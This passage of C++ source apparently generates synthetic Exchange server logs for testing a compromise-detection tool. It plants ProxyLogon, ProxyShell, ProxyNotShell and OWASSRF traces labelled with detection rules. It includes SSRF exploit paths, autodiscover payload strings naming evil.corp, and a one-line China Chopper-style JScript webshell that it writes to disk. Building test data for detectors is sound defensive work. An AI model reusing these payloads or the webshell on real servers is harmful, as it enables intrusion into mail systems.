#include "tree_generator.h"

#include <fcntl.h>
#include <sys/stat.h>

#include <algorithm>
#include <cerrno>
#include <cmath>
#include <cstdio>
#include <cstring>
#include <fstream>
#include <functional>
#include <map>
#include <memory>

#include "base/text.h"
#include "exposure/build.h"
#include "event_log_generator.h"
#include "gen_rng.h"
#include "pe_writer.h"
#include "record/log_format.h"

namespace exhunt::gen {

namespace {

// ---- time formats -------------------------------------------------------------

std::string Iso(TimeMs t) { return FormatIsoTime(t); }
std::string IisDate(TimeMs t) { return Iso(t).substr(0, 10); }
std::string IisTime(TimeMs t) { return Iso(t).substr(11, 8); }
std::string Compact(TimeMs t, bool hour) {  // 2021030306 / 20210303
  std::string i = Iso(t);
  std::string s = i.substr(0, 4) + i.substr(5, 2) + i.substr(8, 2);
  if (hour) s += i.substr(11, 2);
  return s;
}
TimeMs HourStart(TimeMs t) { return t / 3600000 * 3600000; }
TimeMs DayStart(TimeMs t) { return t / 86400000 * 86400000; }

// ---- file writers -------------------------------------------------------------

bool MakeDirs(const std::string& path) {
  for (size_t i = 1; i <= path.size(); ++i) {
    if (i == path.size() || path[i] == '/') {
      std::string p = path.substr(0, i);
      if (mkdir(p.c_str(), 0755) != 0 && errno != EEXIST) return false;
    }
  }
  return true;
}

class LogFile {
 public:
  LogFile(std::string full, TimeMs period_end) : full_(std::move(full)), period_end_(period_end) {}
  ~LogFile() { Close(); }
  bool Open() {
    f_ = fopen(full_.c_str(), "wb");
    return f_ != nullptr;
  }
  // Appends one line (without line end); returns its 1-based line number.
  uint64_t Append(std::string_view line) {
    buf_.append(line);
    buf_ += "\r\n";
    bytes_ += line.size() + 2;
    if (buf_.size() > (1u << 20)) Flush();
    return ++lines_;
  }
  void Flush() {
    if (f_ && !buf_.empty()) fwrite(buf_.data(), 1, buf_.size(), f_);
    buf_.clear();
  }
  void Close() {
    Flush();
    if (f_) fclose(f_);
    f_ = nullptr;
  }
  TimeMs period_end() const { return period_end_; }
  uint64_t bytes() const { return bytes_; }
  uint64_t lines() const { return lines_; }

 private:
  std::string full_;
  TimeMs period_end_;
  FILE* f_ = nullptr;
  std::string buf_;
  uint64_t lines_ = 0, bytes_ = 0;
};

const std::string kHttpProxyFields(KindOf(LogType::kHttpProxy).default_fields);
const std::string kRpsFields(KindOf(LogType::kRpsHttp).default_fields);
const std::string kIisFields(KindOf(LogType::kIisW3c).default_fields);

std::string Plus(std::string_view v) {
  std::string s(v.empty() ? "-" : v);
  std::replace(s.begin(), s.end(), ' ', '+');
  return s;
}

// ---- the server ---------------------------------------------------------------

struct Http {
  TimeMs t = 0;
  std::string method = "GET", stem = "/", query, user, client_ip, ua, referer;
  int status = 200;
  std::string protocol;  // HttpProxy protocol folder; empty: no HttpProxy row
  std::string anchor, routing_hint, backend_cookie, auth_type = "Negotiate";
  bool front_end = true, back_end = true;
};

struct Traces {
  std::vector<PlantedTrace>* out;
  std::string scenario;
  void Add(const std::pair<std::string, uint64_t>& where, const std::string& rule) {
    out->push_back({scenario, where.first, where.second, rule});
  }
};

class Server {
 public:
  Server(const GenOptions& o, GenResult* r) : o_(o), res_(r), rng_(o.seed) {
    auto b = ParseBuild(o.build);
    build_ = b ? *b : *ParseBuild("15.1.2176.2");
    version_long_ = build_.ToLongString();
    cu_path_ =
        std::to_string(build_.major()) + "." + std::to_string(build_.minor()) + "." + std::to_string(build_.build());
    host_ = "EXCH01";
    fqdn_ = "exch01.contoso.local";
    static const char* first[] = {"alice",  "bob",   "carol", "dave",    "erin",   "frank",  "grace",
                                  "heidi",  "ivan",  "judy",  "mallory", "niaj",   "olivia", "peggy",
                                  "rupert", "sybil", "trent", "victor",  "walter", "zoe"};
    static const char* last[] = {"smith",  "jones",  "brown", "miller", "davis",
                                 "garcia", "wilson", "moore", "taylor", "lee"};
    for (int i = 0; i < 120; ++i) {
      std::string u = std::string(first[i % 20]) + "." + last[(i / 2) % 10] + (i >= 100 ? std::to_string(i) : "");
      users_.push_back(u);
      sids_.push_back("S-1-5-21-3623811015-3361044348-30300820-" + std::to_string(1100 + i));
      ips_.push_back(i % 3 ? "10.1." + std::to_string(i / 50) + "." + std::to_string(10 + i % 200)
                           : "198.51.100." + std::to_string(10 + i));
    }
  }

  bool ok() const { return ok_; }

  // Writes one line into the log at `rel`, creating it with `header` first.
  std::pair<std::string, uint64_t> Write(const std::string& rel, TimeMs period_end, const std::string& header,
                                         const std::string& line) {
    auto it = files_.find(rel);
    if (it == files_.end()) {
      std::string full = o_.out + "/" + rel;
      if (!MakeDirs(full.substr(0, full.rfind('/')))) ok_ = false;
      auto f = std::make_unique<LogFile>(full, period_end);
      if (!f->Open()) ok_ = false;
      it = files_.emplace(rel, std::move(f)).first;
      size_t start = 0;
      while (start < header.size()) {
        size_t nl = header.find('\n', start);
        it->second->Append(std::string_view(header).substr(start, nl - start));
        start = nl + 1;
      }
      res_->files++;
    }
    uint64_t n = it->second->Append(line);
    return {rel, n};
  }

  // Plants a file (a webshell on disk) at `rel`, modified at `t`; its truth
  // place is the file itself (line 0).
  std::pair<std::string, uint64_t> PlantFile(const std::string& rel, const std::string& content, TimeMs t) {
    std::string full = o_.out + "/" + rel;
    if (!MakeDirs(full.substr(0, full.rfind('/')))) ok_ = false;
    std::ofstream f(full, std::ios::binary | std::ios::trunc);
    f << content;
    f.close();
    if (!f) ok_ = false;
    struct timespec times[2];
    times[0].tv_sec = times[1].tv_sec = t / 1000;
    times[0].tv_nsec = times[1].tv_nsec = (t % 1000) * 1000000;
    utimensat(AT_FDCWD, full.c_str(), times, 0);
    res_->files++;
    return {rel, 0};
  }

  void CloseBefore(TimeMs t) {
    for (auto it = files_.begin(); it != files_.end();) {
      if (it->second->period_end() <= t) {
        Retire(*it->second);
        it = files_.erase(it);
      } else {
        ++it;
      }
    }
  }
  void CloseAll() { CloseBefore(INT64_MAX); }

  uint64_t bytes_written() const {
    uint64_t b = retired_bytes_;
    for (const auto& [k, f] : files_) b += f->bytes();
    return b;
  }

  // -- per-log writers --
  std::pair<std::string, uint64_t> Iis(const Http& h, bool back_end) {
    std::string rel = std::string("inetpub/logs/LogFiles/") + (back_end ? "W3SVC2" : "W3SVC1") + "/u_ex" +
                      Compact(h.t, false).substr(2) + ".log";
    std::string header =
        "#Software: Microsoft Internet Information Services 10.0\n#Version: 1.0\n#Date: " + IisDate(DayStart(h.t)) +
        " 00:00:00\n#Fields: " + kIisFields + "\n";
    std::string line = IisDate(h.t) + " " + IisTime(h.t) + " " + (back_end ? "fe80::4d1c:2a7:3b1:8e5%12" : "10.0.0.5") +
                       " " + h.method + " " + h.stem + " " + (h.query.empty() ? "-" : h.query) + " " +
                       (back_end ? "444" : "443") + " " + (h.user.empty() ? "-" : h.user) + " " +
                       (back_end ? "10.0.0.5" : h.client_ip) + " " + Plus(h.ua) + " " + Plus(h.referer) + " " +
                       std::to_string(h.status) + " 0 0 " + std::to_string(5 + rng_.Below(400));
    return Write(rel, DayStart(h.t) + 86400000, header, line);
  }

  std::pair<std::string, uint64_t> HttpProxy(const Http& h) {
    std::string rel = o_.install + "/Logging/HttpProxy/" + h.protocol + "/HttpProxy_" + Compact(h.t, true) + "-1.LOG";
    std::string header = "#Software: Microsoft Exchange Server\n#Version: " + version_long_ +
                         "\n#Log-type: HttpProxy Logs\n#Date: " + Iso(HourStart(h.t)) +
                         "\n#Fields: " + kHttpProxyFields + "\n";
    bool authed = !h.user.empty();
    std::string begin = Iso(h.t - 20 - TimeMs(rng_.Below(80)));
    std::string gi = "BeginRequest=" + begin +
                     ";CorrelationID=<empty>;ProxyState-Run=None;FEAuth=BEVersion-1942063431;" +
                     "BeginGetRequestStream=" + begin + ";OnRequestStreamReady=" + begin +
                     ";BeginGetResponse=" + begin + ";OnResponseReady=" + Iso(h.t) + ";EndGetResponse=" + Iso(h.t) +
                     ";ProxyState-Complete=ProxyResponseData;SharedCacheGuard=0;EndRequest=" + Iso(h.t) + ";";
    std::vector<std::string> v = {Iso(h.t),
                                  rng_.Guid(),
                                  "15",
                                  "1",
                                  "2176",
                                  "2",
                                  "",
                                  h.protocol,
                                  "mail.contoso.com",
                                  h.stem,
                                  "",
                                  authed ? h.auth_type : "",
                                  authed ? "true" : "false",
                                  h.user,
                                  authed ? "contoso.com" : "",
                                  h.anchor,
                                  h.ua,
                                  h.client_ip,
                                  host_,
                                  std::to_string(h.status),
                                  std::to_string(h.status),
                                  "",
                                  h.method,
                                  "Proxy",
                                  fqdn_,
                                  "15.01.2176.002",
                                  "IntraForest",
                                  h.routing_hint,
                                  h.backend_cookie,
                                  "",
                                  "",
                                  std::to_string(200 + rng_.Below(4000)),
                                  std::to_string(300 + rng_.Below(60000)),
                                  "",
                                  "",
                                  "0",
                                  "0",
                                  "",
                                  "0",
                                  "",
                                  "0",
                                  "",
                                  "0",
                                  "0",
                                  "",
                                  "0",
                                  std::to_string(10 + rng_.Below(300)),
                                  "0",
                                  "0",
                                  "1",
                                  "0",
                                  std::to_string(5 + rng_.Below(200)),
                                  "0",
                                  "0",
                                  "0",
                                  "0",
                                  "0",
                                  std::to_string(10 + rng_.Below(300)),
                                  "0",
                                  "8",
                                  "3",
                                  "4",
                                  "4",
                                  std::to_string(10 + rng_.Below(300)),
                                  "",
                                  h.query,
                                  "",
                                  gi,
                                  "",
                                  "",
                                  "",
                                  "",
                                  "",
                                  ""};
    std::string line;
    for (size_t i = 0; i < v.size(); ++i) {
      if (i) line += ',';
      line += CsvCell(v[i]);
    }
    return Write(rel, HourStart(h.t) + 3600000, header, line);
  }

  std::pair<std::string, uint64_t> Ecp(TimeMs t, const std::string& event_data) {
    std::string rel = o_.install + "/Logging/ECP/Server/ECPServer" + Compact(t, false) + "-1.LOG";
    std::string header =
        "#Software: Microsoft Exchange Server\n#Version: 15.0.0.0\n#Log-type: ECP Server Log\n#Date: " +
        Iso(DayStart(t)) + "\n#Fields: TimeStamp,ServerName,EventId,EventData\n";
    return Write(rel, DayStart(t) + 86400000, header, Iso(t) + "," + host_ + ",ECP.Request," + CsvCell(event_data));
  }

  std::pair<std::string, uint64_t> Oab(TimeMs t, const std::string& text) {
    std::string rel = o_.install + "/Logging/OABGeneratorLog/OABGenerator_" + Compact(t, false) + "-1.LOG";
    return Write(rel, DayStart(t) + 86400000, "", Iso(t) + " [" + std::to_string(4000 + rng_.Below(50)) + "] " + text);
  }

  std::pair<std::string, uint64_t> Rps(TimeMs t, const std::string& user, const std::string& client_ip, int status,
                                       const std::string& client_info, const std::string& command) {
    std::string rel = o_.install + "/Logging/CmdletInfra/Powershell-Proxy/Http/Rps_Http_" + Compact(t, true) + "-1.LOG";
    std::string header = "#Software: Microsoft Exchange Server\n#Version: " + version_long_ +
                         "\n#Log-type: Rps Http Logs\n#Date: " + Iso(HourStart(t)) + "\n#Fields: " + kRpsFields + "\n";
    std::vector<std::string> v = {Iso(t),
                                  Iso(t - 40),
                                  rng_.Guid(),
                                  "15",
                                  "1",
                                  "2176",
                                  "2",
                                  "",
                                  fqdn_,
                                  "/powershell",
                                  "Kerberos",
                                  "true",
                                  user,
                                  "",
                                  "",
                                  client_ip,
                                  host_,
                                  host_,
                                  std::to_string(status),
                                  "0",
                                  "",
                                  "Command",
                                  rng_.Guid(),
                                  command,
                                  rng_.Guid(),
                                  rng_.Guid(),
                                  "",
                                  "",
                                  std::to_string(1000 + rng_.Below(9000)),
                                  client_info,
                                  "0",
                                  "52428800",
                                  "12",
                                  std::to_string(20 + rng_.Below(200)),
                                  "?clientApplication=ActiveMonitor;PSVersion=5.1.14393.4467",
                                  "",
                                  "",
                                  ""};
    std::string line;
    for (size_t i = 0; i < v.size(); ++i) {
      if (i) line += ',';
      line += CsvCell(v[i]);
    }
    return Write(rel, HourStart(t) + 3600000, header, line);
  }

  // A request as it crosses the server: IIS front end, HttpProxy, IIS back end.
  void Request(const Http& h) {
    if (h.front_end) Iis(h, false);
    if (!h.protocol.empty()) HttpProxy(h);
    if (h.back_end && h.status != 401 && h.status != 302) {
      Http be = h;
      be.user = h.user.empty() ? "" : h.user;
      Iis(be, true);
    }
  }

  // -- benign traffic --
  void Benign(TimeMs t) {
    size_t u = rng_.Below(users_.size());
    Http h;
    h.t = t;
    h.user = "CONTOSO\\" + users_[u];
    h.client_ip = ips_[u];
    h.anchor = rng_.Below(2) ? "Sid~" + sids_[u] : "Smtp~" + users_[u] + "@contoso.com";
    h.backend_cookie =
        rng_.Below(3) ? "" : "Server~" + fqdn_ + "~1942063431~" + Iso(HourStart(t) + 3600000).substr(0, 19);
    double p = rng_.Unit();
    static const std::vector<std::string> browsers = {
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 "
        "Safari/537.36",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:86.0) Gecko/20100101 Firefox/86.0",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 11_2_3) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/14.0.3 "
        "Safari/605.1.15",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/89.0.4389.82 "
        "Safari/537.36 Edg/89.0.774.50"};
    static const std::vector<std::string> outlook = {
        "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.13801; Pro)",
        "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.13628; Pro)",
        "Microsoft Office/15.0 (Windows NT 6.1; Microsoft Outlook 15.0.5319; Pro)"};
    if (p < 0.30) {  // OWA
      h.protocol = "Owa";
      h.ua = rng_.Pick(browsers);
      h.auth_type = "Cookie";
      static const std::vector<std::string> actions = {"GetItem",
                                                       "FindItem",
                                                       "GetConversationItems",
                                                       "GetOwaUserConfiguration",
                                                       "CreateItem",
                                                       "SubscribeToNotification",
                                                       "GetAttachmentPreview"};
      int r = int(rng_.Below(10));
      if (r < 6) {
        h.method = "POST";
        h.stem = "/owa/service.svc";
        h.query = "action=" + rng_.Pick(actions) + "&app=Mail&n=" + std::to_string(rng_.Below(200));
      } else if (r < 8) {
        h.stem = "/owa/";
        h.query = "";
      } else if (r < 9) {
        h.stem =
            "/owa/auth/" + cu_path_ + "/themes/resources/" + std::string(rng_.Below(2) ? "logon.css" : "favicon.ico");
        h.user = "";
        h.anchor = "";
        h.back_end = false;
      } else {
        h.method = rng_.Below(2) ? "GET" : "POST";
        h.stem = h.method == "GET" ? "/owa/auth/logon.aspx" : "/owa/auth.owa";
        h.query = h.method == "GET" ? "url=https%3a%2f%2fmail.contoso.com%2fowa%2f&reason=0" : "";
        h.status = h.method == "GET" ? 200 : 302;
        h.user = h.method == "GET" ? "" : h.user;
        h.anchor = "";
      }
    } else if (p < 0.50) {  // MAPI over HTTP
      h.protocol = "Mapi";
      h.method = "POST";
      h.ua = "MapiHttpClient";
      h.stem = rng_.Below(4) ? "/mapi/emsmdb/" : "/mapi/nspi/";
      h.query = "MailboxId=" + rng_.Guid() + "@contoso.com";
      h.anchor = "MailboxGuid~" + rng_.Guid();
    } else if (p < 0.62) {  // EWS
      h.protocol = "Ews";
      h.method = "POST";
      h.stem = "/EWS/Exchange.asmx";
      h.ua = rng_.Below(3) ? rng_.Pick(outlook) : "ExchangeServicesClient/15.01.2176.002";
    } else if (p < 0.72) {  // ActiveSync
      h.protocol = "Eas";
      h.method = "POST";
      h.stem = "/Microsoft-Server-ActiveSync/default.eas";
      static const std::vector<std::string> cmds = {"Sync", "Ping", "FolderSync", "SendMail", "ItemOperations"};
      h.query = "Cmd=" + rng_.Pick(cmds) + "&User=" + users_[u] + "&DeviceId=" + rng_.Hex(24) +
                "&DeviceType=" + (rng_.Below(2) ? "iPhone" : "Outlook");
      h.ua = rng_.Below(2) ? "Apple-iPhone12C1/1805.128" : "Outlook-iOS-Android/1.0";
      h.auth_type = "Basic";
    } else if (p < 0.80) {  // Autodiscover, classic and modern
      h.protocol = "Autodiscover";
      h.ua = rng_.Pick(outlook);
      if (rng_.Below(2)) {
        h.method = "POST";
        h.stem = "/autodiscover/autodiscover.xml";
      } else {
        // Modern Outlook: the mailbox is in the path; an '@' in an autodiscover.json URL is normal.
        static const std::vector<std::string> protos = {"EWS", "ActiveSync", "AutodiscoverV1", "Rest"};
        h.stem = "/autodiscover/autodiscover.json/v1.0/" + users_[u] + "@contoso.com";
        h.query = "Protocol=" + rng_.Pick(protos) + "&RedirectCount=1";
        if (rng_.Below(3) == 0) {
          h.user = "";
          h.anchor = "";
          h.status = rng_.Below(2) ? 200 : 401;
        }
      }
    } else if (p < 0.84) {  // OAB downloads
      h.protocol = "Oab";
      h.ua = rng_.Pick(outlook);
      h.stem =
          "/OAB/" + oab_guid_ + "/" + (rng_.Below(2) ? "oab.xml" : "data-" + std::to_string(rng_.Below(90)) + ".lzx");
    } else if (p < 0.87) {  // administrators in ECP
      size_t a = rng_.Below(4);
      h.user = "CONTOSO\\admin." + std::string(a % 2 ? "ops" : "it") + std::to_string(a);
      h.protocol = "Ecp";
      h.ua = rng_.Pick(browsers);
      h.auth_type = "Cookie";
      static const std::vector<std::pair<std::string, std::string>> pages = {
          {"/ecp/DDI/DDIService.svc/GetList", "schema=Mailboxes&msExchEcpCanary="},
          {"/ecp/DDI/DDIService.svc/GetObject", "schema=MailboxPropertiesMaster&msExchEcpCanary="},
          {"/ecp/RulesEditor/InboxRules.svc/GetList", "msExchEcpCanary="},
          {"/ecp/", ""}};
      const auto& page = rng_.Pick(pages);
      h.method = page.first == "/ecp/" ? "GET" : "POST";
      h.stem = page.first;
      h.query = page.second.empty() ? "" : page.second + rng_.Hex(43);
      Request(h);
      static const std::vector<std::string> cmds = {"Get-Mailbox", "Get-InboxRule", "Get-MailboxStatistics",
                                                    "Get-OabVirtualDirectory", "Get-Recipient"};
      std::string cmd = rng_.Pick(cmds);
      if (rng_.Below(40) == 0)
        cmd = "Set-OabVirtualDirectory.ExternalUrl='https://mail.contoso.com/OAB'.Identity='" + rng_.Guid() + "'";
      Ecp(t + 3, "S:TIME=" + std::to_string(5 + rng_.Below(90)) + ";S:SID=" + rng_.Guid() + ";S:CMD=" + cmd +
                     ";S:REQID=;S:URL=" + h.stem + (h.query.empty() ? "" : "?" + h.query) +
                     ";S:REFERRER=;S:EX=;S:ACTID=" + rng_.Guid() +
                     ";S:RS=0;S:BLD=15.1.2176.2;S:TNAME=<null>;S:TID=;S:USID=" + rng_.Guid() + ";S:EDOID=;S:ACID=");
      return;
    } else if (p < 0.91) {  // remote PowerShell from admins
      h.user = "CONTOSO\\admin.ops1";
      h.protocol = "PowerShell";
      h.method = "POST";
      h.ua = "Microsoft WinRM Client";
      h.stem = "/powershell";
      h.query =
          "serializationLevel=Full;ExchClientVer=15.1.2176.2;clientApplication=ManagementShell;TargetServer=;PSVersion="
          "5.1.17763.1490";
      h.auth_type = "Kerberos";
      h.anchor = "ServerVersion~Version 15.1 (Build 2176.2)";
      h.routing_hint = "ExchClientVer-ServerCookie";
      Request(h);
      static const std::vector<std::string> cmds = {"Get-Mailbox", "Get-ExchangeServer", "Get-Queue", "Set-Mailbox",
                                                    "Get-MessageTrackingLog"};
      Rps(t + 5, h.user, h.client_ip, 200, "Microsoft WinRM Client", rng_.Pick(cmds));
      return;
    } else {  // health-mailbox probes and monitoring
      h.user = "CONTOSO\\HealthMailbox" + rng_.Hex(7);
      h.client_ip = "::1";
      int r = int(rng_.Below(4));
      if (r == 0) {
        h.protocol = "PowerShell";
        h.method = "POST";
        h.stem = "/powershell";
        h.query = "clientApplication=ActiveMonitor;PSVersion=5.1.14393.4467";
        h.ua = "Microsoft WinRM Client";
        h.anchor = "ServerVersion~Version 15.1 (Build 2176.0)";
        Request(h);
        Rps(t + 4, h.user, "::1", 200, rng_.Below(2) ? "Exchange BackEnd Probes" : "", "Get-Mailbox");
        return;
      } else if (r == 1) {
        h.protocol = "Owa";
        h.stem = "/owa/";
        h.ua = "AMProbe/Local/ClientAccess";
      } else if (r == 2) {
        h.protocol = "Ecp";
        h.stem = "/ecp/ReportingWebService/";
        h.ua =
            "Mozilla/4.0 (compatible; MSIE 12.0; Trident/7.0; rv:12.0; Windows NT 6.1; MSEXCHMON; ACTIVEMONITORING; "
            "BACKLOOK)";
      } else {
        h.protocol = "Ews";
        h.method = "POST";
        h.stem = "/EWS/Exchange.asmx";
        h.ua = "Ews_Probe/Local (ExchangeServicesClient/15.01.2176.002)";
      }
    }
    Request(h);
  }

  // The ECP probe of managed availability.
  void Heartbeat(TimeMs t) {
    Http h;
    h.t = t;
    h.user = "CONTOSO\\HealthMailbox" + rng_.Hex(7);
    h.client_ip = "::1";
    h.protocol = "Ecp";
    h.stem = "/ecp/ReportingWebService/";
    h.ua = "Mozilla/4.0 (compatible; MSIE 12.0; Trident/7.0; rv:12.0; Windows NT 6.1; MSEXCHMON; ACTIVEMONITORING; "
           "BACKLOOK)";
    Request(h);
  }

  void DailyOab(TimeMs day) {
    TimeMs t = day + 3600000LL * 2 + TimeMs(rng_.Below(600000));
    Oab(t, "OABGenerator: Beginning generation of offline address book \\Default Offline Address Book (Ex2013)");
    Oab(t + 812, "OABGenerator: Generation of \\Default Offline Address Book (Ex2013) completed with 4 files");
    if (rng_.Below(3) == 0)  // benign: a temporary file inside the OAB folder
      Oab(t + 900, "OABGenerator: Download failed and temporary file 'C:\\" + WinInstall() +
                       "\\ClientAccess\\OAB\\Temp\\" + rng_.Hex(8) + ".tmp' needs to be removed");
  }

  std::string WinInstall() const {
    std::string s = o_.install;
    std::replace(s.begin(), s.end(), '/', '\\');
    return s;
  }

  Rng& rng() { return rng_; }
  const std::string& user(size_t i) const { return users_[i]; }

 private:
  void Retire(LogFile& f) {
    f.Close();
    retired_bytes_ += f.bytes();
    res_->lines += f.lines();
  }

  const GenOptions& o_;
  GenResult* res_;
  Rng rng_;
  bool ok_ = true;
  std::string host_, fqdn_;
  std::string oab_guid_ = "0d1f62a5-6b6f-4c8e-9d7e-2a3f4b5c6d7e";
  Build build_;
  std::string version_long_, cu_path_;

 public:
  const Build& build() const { return build_; }
  const std::string& cu_path() const { return cu_path_; }

 private:
  std::vector<std::string> users_, sids_, ips_;
  std::map<std::string, std::unique_ptr<LogFile>> files_;
  uint64_t retired_bytes_ = 0;
};

// ---- planted attack chains -------------------------------------------------

struct Planted {
  TimeMs t;
  std::function<void(Server&, Traces&)> write;
  std::string scenario;
};

Http Attacker(TimeMs t, const std::string& ip, const std::string& ua) {
  Http h;
  h.t = t;
  h.client_ip = ip;
  h.ua = ua;
  h.user = "";
  return h;
}

void PlantProxyLogon(TimeMs t0, const std::string& install_win, std::vector<Planted>* out) {
  const std::string ip = "104.248.49.97", ua = "python-requests/2.25.1";
  auto ssrf = [=](TimeMs t, const std::string& target, int status, const std::string& rule) {
    return Planted{t,
                   [=](Server& s, Traces& tr) {
                     Http h = Attacker(t, ip, ua);
                     h.method = "POST";
                     h.stem = "/ecp/y.js";
                     h.protocol = "Ecp";
                     h.anchor = "ServerInfo~a]@exch01.contoso.local:444/" + target;
                     h.routing_hint = "X-BEResource-Cookie";
                     h.status = status;
                     auto fe = s.Iis(h, false);
                     tr.Add(fe, "exchange.proxylogon.iis_ssrf_entry");
                     tr.Add(fe, "exchange.hafnium.user_agent");
                     tr.Add(s.HttpProxy(h), rule);
                   },
                   "proxylogon"};
  };
  out->push_back(ssrf(t0, "autodiscover/autodiscover.xml?#", 200, "exchange.proxylogon.ssrf_autodiscover"));
  out->push_back(ssrf(t0 + 2100, "mapi/emsmdb/?#", 200, "exchange.proxylogon.ssrf_anchor_mailbox"));
  out->push_back(ssrf(t0 + 4300, "ecp/proxyLogon.ecp?#", 241, "exchange.proxylogon.ssrf_anchor_mailbox"));
  out->push_back(ssrf(t0 + 6200, "ecp/DDI/DDIService.svc/GetObject?schema=OABVirtualDirectory&msExchEcpCanary=Oq94#",
                      200, "exchange.proxylogon.ssrf_ecp_ddi"));
  out->push_back(ssrf(t0 + 8400, "ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary=Oq94#",
                      200, "exchange.proxylogon.ssrf_ecp_ddi"));
  out->push_back(
      {t0 + 8500,
       [=](Server& s, Traces& tr) {
         tr.Add(s.Ecp(t0 + 8500,
                      "S:TIME=151;S:SID=" + std::string("7c1b9a5e-1f0e-4d3c-9b8a-6e5d4c3b2a19") +
                          ";S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://f/<script language=\"JScript\" "
                          "runat=\"server\">function Page_Load(){eval(Request[\"exec_code\"],\"unsafe\");}</script>'"
                          ".Identity='0d1f62a5-6b6f-4c8e-9d7e-2a3f4b5c6d7e';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/"
                          "SetObject?schema=OABVirtualDirectory&msExchEcpCanary=Oq94;S:REFERRER=;S:EX=;S:RS=0"),
                "exchange.proxylogon.ecp_vdir_script");
       },
       "proxylogon"});
  out->push_back(ssrf(t0 + 10100,
                      "ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary=Oq94#", 200,
                      "exchange.proxylogon.reset_vdir_success"));
  out->push_back(
      {t0 + 10600,
       [=](Server& s, Traces& tr) {
         tr.Add(s.Oab(t0 + 10600,
                      "OABGenerator: Download failed and temporary file "
                      "'\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\discover.aspx' needs to be removed"),
                "exchange.proxylogon.oab_download_outside");
       },
       "proxylogon"});
  // The shell the requests below reach, on disk where the OAB export put it.
  out->push_back({t0 + 10600,
                  [=](Server& s, Traces& tr) {
                    auto where = s.PlantFile("inetpub/wwwroot/aspnet_client/discover.aspx",
                                             "<script language=\"JScript\" runat=\"server\">function Page_Load(){"
                                             "eval(Request[\"exec_code\"],\"unsafe\");}</script>\r\n",
                                             t0 + 10600);
                    tr.Add(where, "exhunt_webshell_china_chopper_eval");
                    tr.Add(where, "exhunt.file.page_in_aspnet_client");
                    tr.Add(where, "ioc:hafnium-filename-iocs.txt:high");
                  },
                  "proxylogon"});
  for (int i = 0; i < 3; ++i) {
    TimeMs t = t0 + 60000 + i * 7000;
    out->push_back({t,
                    [=](Server& s, Traces& tr) {
                      Http h = Attacker(t, ip, "antSword/v2.1");
                      h.method = "POST";
                      h.stem = "/aspnet_client/discover.aspx";
                      auto fe = s.Iis(h, false);
                      tr.Add(fe, "exchange.webshell.request_success");
                      tr.Add(fe, "exchange.hafnium.user_agent");
                    },
                    "proxylogon"});
  }
  (void)install_win;
}

void PlantProxyShell(TimeMs t0, std::vector<Planted>* out) {
  const std::string ip = "45.77.213.14", ua = "Mozilla/5.0 (X11; Linux x86_64; rv:91.0) Gecko/20100101 Firefox/91.0";
  auto ad = [=](TimeMs t, const std::string& target, const std::string& method, int status,
                std::vector<std::string> iis_rules, std::vector<std::string> hp_rules) {
    return Planted{t,
                   [=](Server& s, Traces& tr) {
                     Http h = Attacker(t, ip, ua);
                     h.method = method;
                     h.stem = "/autodiscover/autodiscover.json";
                     h.query = "@evil.corp/" + target + "&Email=autodiscover/autodiscover.json%3F@evil.corp";
                     h.status = status;
                     h.protocol = "Autodiscover";
                     auto fe = s.Iis(h, false);
                     for (const auto& r : iis_rules) tr.Add(fe, r);
                     Http hp = h;
                     hp.query = "?" + h.query;
                     auto row = s.HttpProxy(hp);
                     for (const auto& r : hp_rules) tr.Add(row, r);
                   },
                   "proxyshell"};
  };
  out->push_back(ad(t0, "autodiscover/autodiscover.xml?", "POST", 200, {"exchange.scanner.autodiscover_probe"}, {}));
  out->push_back(ad(t0 + 3000, "mapi/nspi/?", "POST", 200,
                    {"exchange.proxyshell.iis_autodiscover_success", "exchange.scanner.autodiscover_probe"},
                    {"exchange.proxyshell.httpproxy_autodiscover_success"}));
  out->push_back(ad(t0 + 9000,
                    "powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTBJhZG1pbkBjb250b3NvLmNvbQ==", "POST", 200,
                    {"exchange.proxyshell.iis_autodiscover_success", "exchange.scanner.autodiscover_probe"},
                    {"exchange.proxyshell.httpproxy_autodiscover_success"}));
  TimeMs t = t0 + 180000;
  out->push_back({t,
                  [=](Server& s, Traces& tr) {
                    Http h = Attacker(t, ip, ua);
                    h.method = "POST";
                    h.stem = "/aspnet_client/qzqxwd.aspx";
                    tr.Add(s.Iis(h, false), "exchange.webshell.request_success");
                  },
                  "proxyshell"});
}

void PlantProxyNotShell(TimeMs t0, std::vector<Planted>* out) {
  const std::string ip = "137.184.67.33", ua = "python-requests/2.28.1";
  out->push_back({t0,
                  [=](Server& s, Traces& tr) {
                    Http h = Attacker(t0, ip, ua);
                    h.user = "CONTOSO\\frank.garcia";
                    h.method = "POST";
                    h.stem = "/autodiscover/autodiscover.json";
                    h.query =
                        "@evil.corp/powershell/?Email=autodiscover/"
                        "autodiscover.json%3F@evil.corp&Protocol=XYZ&FooProtocol=Powershell";
                    auto fe = s.Iis(h, false);
                    tr.Add(fe, "exchange.proxynotshell.iis_autodiscover_success");
                    tr.Add(fe, "exchange.proxynotshell.protocol_powershell");
                    tr.Add(fe, "exchange.scanner.autodiscover_probe");
                    tr.Add(s.Rps(t0 + 30, "CONTOSO\\frank.garcia", ip + " 10.0.0.5", 200, ua, "New-PSSession"),
                           "exchange.owassrf.rps_clientinfo_success");
                  },
                  "proxynotshell"});
}

void PlantOwassrf(TimeMs t0, std::vector<Planted>* out) {
  const std::string ip = "185.220.101.45",
                    ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:108.0) Gecko/20100101 Firefox/108.0";
  out->push_back({t0,
                  [=](Server& s, Traces& tr) {
                    Http h = Attacker(t0, ip, ua);
                    h.user = "CONTOSO\\carol.brown";
                    h.method = "POST";
